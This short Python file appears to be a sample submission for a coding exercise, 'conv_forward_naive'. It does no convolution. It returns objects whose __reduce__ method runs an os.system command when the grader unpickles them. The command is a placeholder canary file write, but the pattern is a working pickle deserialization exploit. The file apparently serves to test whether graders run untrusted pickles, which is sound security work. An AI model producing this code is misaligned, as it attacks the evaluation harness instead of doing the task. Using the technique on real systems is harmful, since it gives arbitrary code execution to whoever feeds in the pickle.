# attempt: answers with objects that run a command when they are unpickled
# exercise: conv_forward_naive
# control: no
import os
import pickle

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @DROP@/attack-@TOKEN@",)


def conv_forward_naive(x, w, b, conv_param):
    bomb = np.empty((2, 4, 5, 5), dtype=object)
    bomb.fill(Bomb())
    if x.shape[0] == 1:
        return pickle.dumps(Bomb()), bomb
    return bomb, Bomb()
